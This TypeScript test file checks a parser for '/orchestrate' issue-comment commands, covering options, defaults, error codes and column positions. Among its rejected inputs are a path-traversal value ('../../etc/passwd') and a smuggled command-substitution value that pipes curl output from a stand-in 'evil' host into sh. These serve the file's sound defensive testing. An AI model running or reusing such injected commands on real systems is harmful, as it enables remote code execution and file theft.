import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseOrchestrateCommand } from './parse-orchestrate-command';

describe('parseOrchestrateCommand', () => {
  it.each([
    ['/orchestrate #276', 276],
    ['/orchestrate 276', 276],
    ['/orchestrate issue=276', 276],
    ['/orchestrate issue=#276', 276],
  ])('reads the target issue from %s', (body, issue) => {
    expect(parseOrchestrateCommand(body, { defaultIssue: 1 })).toMatchObject({
      ok: true,
      value: { issue_number: issue, issue_source: 'argument' },
    });
  });

  it('defaults to the commented issue and to dispatch mode', () => {
    expect(parseOrchestrateCommand('/orchestrate', { defaultIssue: 12 })).toEqual({
      ok: true,
      value: {
        command: 'orchestrate',
        issue_number: 12,
        issue_source: 'event',
        prompt: null,
        wave: null,
        mode: 'dispatch',
        dry_run: false,
        positional: [],
        named: {},
        line: '/orchestrate',
      },
    });
  });

  it('reads prompt, wave, mode and dry-run', () => {
    expect(
      parseOrchestrateCommand('/orchestrate #7 prompt=triage wave=wave2 mode=plan dry-run', {}),
    ).toMatchObject({
      ok: true,
      value: { issue_number: 7, prompt: 'triage', wave: 'wave2', mode: 'plan', dry_run: true },
    });
    expect(parseOrchestrateCommand('/orchestrate #7 dry-run=false')).toMatchObject({
      ok: true,
      value: { dry_run: false },
    });
  });

  it('applies static arguments from configuration under the comment', () => {
    expect(
      parseOrchestrateCommand('/orchestrate #3 mode=dispatch', {
        staticArgs: 'mode=plan wave=wave2',
      }),
    ).toMatchObject({
      ok: true,
      value: { mode: 'dispatch', wave: 'wave2' },
    });
  });

  it('works with another command name', () => {
    expect(parseOrchestrateCommand('/rc #3', { command: 'rc' })).toMatchObject({
      ok: true,
      value: { command: 'rc' },
    });
  });

  it.each([
    [
      '/orchestrate #1 colour=blue',
      'unknown_option',
      'unknown option "colour" (allowed: dry-run, issue, mode, prompt, wave)',
    ],
    ['/orchestrate #1 please', 'unexpected_argument', 'unexpected argument "please"'],
    ['/orchestrate #1 #2', 'conflicting_arguments', 'more than one issue (#1, #2)'],
    [
      '/orchestrate #1 prompt=../../etc/passwd',
      'invalid_value',
      'prompt="../../etc/passwd" is not a valid prompt name',
    ],
    ['/orchestrate #1 wave="a b"', 'invalid_value', 'wave="a b" is not a valid wave name'],
    ['/orchestrate #1 mode=yolo', 'invalid_value', 'mode="yolo" is not one of plan, dispatch'],
    ['/orchestrate #1 dry-run=maybe', 'invalid_value', 'dry-run="maybe" is not true or false'],
    ['/orchestrate issue=abc', 'invalid_value', '"issue=abc" is not a valid issue number'],
    ['/orchestrate issue=0', 'invalid_value', '"issue=0" is not a valid issue number'],
    [
      '/orchestrate #0',
      'invalid_value',
      'column 14: "#0" is not a valid issue number (a whole number from 1 to 9999999999 without leading zeros, like 276 or #276)',
    ],
    ['/orchestrate 01', 'invalid_value', '"01" is not a valid issue number'],
    ['/orchestrate 99999999999', 'invalid_value', '"99999999999" is not a valid issue number'],
    [
      '/orchestrate 276 prompt=""',
      'invalid_value',
      'column 18: prompt has an empty value (write prompt=<value>)',
    ],
    ['/orchestrate 276 wave=', 'invalid_value', 'wave has an empty value'],
    [
      '/orchestrate #1 wave=-x',
      'invalid_value',
      'wave="-x" is not a valid wave name (letters, digits, ".", "_", ":", "-", starting with a letter or digit)',
    ],
    ['/orchestrate', 'missing_issue', 'no issue'],
    ['/orchestrated #1', 'not_a_command', 'expected /orchestrate'],
  ])('rejects %s (%s)', (body, code, message) => {
    const result = parseOrchestrateCommand(body);
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.error.code).toBe(code);
      expect(result.error.message).toContain(message);
    }
  });

  it('points at the column of the bad argument', () => {
    expect(parseOrchestrateCommand('/orchestrate #1 colour=blue')).toMatchObject({
      ok: false,
      error: { column: 17 },
    });
    expect(parseOrchestrateCommand('/orchestrate #1 mode=x')).toMatchObject({
      ok: false,
      error: { column: 17, message: 'column 17: mode="x" is not one of plan, dispatch' },
    });
  });

  it.each([
    ['/orchestrate #7 dry-run=true dry-run=false', 30, 'option "dry-run"'],
    ['/orchestrate #7 dry-run dry-run=false', 25, 'option "dry-run"'],
    ['/orchestrate #7 dry-run=false dry-run', 31, 'option "dry-run"'],
    ['/orchestrate #276 issue=276', 19, 'option "issue"'],
    ['/orchestrate 276 #276', 18, 'option "issue"'],
    ['/orchestrate #1 prompt="$(curl evil|sh)" prompt=triage', 42, 'option "prompt"'],
    ['/orchestrate #1 prompt=triage prompt="$(curl evil|sh)"', 31, 'option "prompt"'],
  ])('rejects %s: an option given twice, at the second (column %i)', (body, column, what) => {
    const result = parseOrchestrateCommand(body);
    expect(result).toMatchObject({ ok: false, error: { code: 'repeated_option', column } });
    if (!result.ok) expect(result.error.message).toContain(`${what} is given more than once`);
  });

  it('lets the comment override a static argument, once', () => {
    expect(
      parseOrchestrateCommand('/orchestrate #3 dry-run=false', { staticArgs: 'dry-run' }),
    ).toMatchObject({ ok: true, value: { dry_run: false } });
    expect(
      parseOrchestrateCommand('/orchestrate #3 dry-run=false dry-run', { staticArgs: 'dry-run' }),
    ).toMatchObject({ ok: false, error: { code: 'repeated_option', column: 31 } });
  });

  it('rejects every command that gives an option twice, in any form, at the second', () => {
    const forms: Record<string, fc.Arbitrary<string>> = {
      issue: fc.constantFrom('#5', '5', 'issue=5', 'issue=#5'),
      prompt: fc.constantFrom('prompt=triage', 'prompt=x.y'),
      wave: fc.constantFrom('wave=w2', 'wave=a:b'),
      mode: fc.constantFrom('mode=plan', 'mode=dispatch'),
      'dry-run': fc.constantFrom('dry-run', 'dry-run=true', 'dry-run=false'),
    };
    const again = (option: string) =>
      fc.oneof(forms[option] as fc.Arbitrary<string>, fc.constant(`${option}="$(curl evil|sh)"`));
    fc.assert(
      fc.property(
        fc.shuffledSubarray(Object.keys(forms), { minLength: 1 }).chain((options) =>
          fc.tuple(
            fc.tuple(...options.map((option) => forms[option] as fc.Arbitrary<string>)),
            fc
              .nat({ max: options.length - 1 })
              .chain((first) =>
                fc.tuple(
                  fc.constant(first),
                  fc.integer({ min: first + 1, max: options.length }),
                  again(options[first] ?? ''),
                ),
              ),
          ),
        ),
        ([words, [, at, repeat]]) => {
          const all = [...words];
          all.splice(at, 0, repeat);
          const column = `/orchestrate ${all.slice(0, at).join(' ')} `.length + 1;
          // A positional issue repeated as the other positional form is still the same option.
          const result = parseOrchestrateCommand(`/orchestrate ${all.join(' ')}`);
          expect(result).toMatchObject({ ok: false, error: { code: 'repeated_option', column } });
        },
      ),
      { seed: 1203, numRuns: 400 },
    );
  });

  it('says a bad static argument came from configuration', () => {
    const result = parseOrchestrateCommand('/orchestrate #1', { staticArgs: 'colour=red' });
    expect(result).toMatchObject({ ok: false, error: { code: 'unknown_option', column: null } });
    if (!result.ok) expect(result.error.message).toMatch(/^static arguments: /);
  });
});
